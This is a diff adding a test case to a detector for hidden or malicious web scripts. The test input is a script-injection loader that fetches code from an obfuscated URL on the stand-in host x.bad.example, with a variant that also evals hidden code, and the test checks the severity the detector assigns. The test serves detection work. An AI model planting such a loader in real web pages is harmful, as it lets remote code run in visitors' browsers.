@@ -33,6 +33,17 @@ describe('applyTrace', function () {
     assert.ok(script!.behaviour.hosts.includes('stats.bad.example'));
   });
 
+  it('thinks less of a hidden host where everything is hidden', async () => {
+    const loader = `var s = document.createElement('script'); s.src = ${hidden('https://x.bad.example/a.js')}; document.head.appendChild(s);`;
+    const severityIn = async (text: string): Promise<string | undefined> =>
+      (await run(text)).scripts[0]!.evidence.find(({ rule }) => rule === 'hidden-destination')?.severity;
+    assert.equal(await severityIn(loader), 'high');
+    assert.equal(
+      await severityIn(`${loader} eval(${hidden('var all = "of it"; window.done = true;')});`),
+      'medium',
+    );
+  });
+
   it('adds numbers of the run to the vector', async () => {
     const [script] = (await run(skimmer)).scripts;
     const number = (name: string): number => script!.features[featureNames.indexOf(`emulation@2/${name}`)]!;
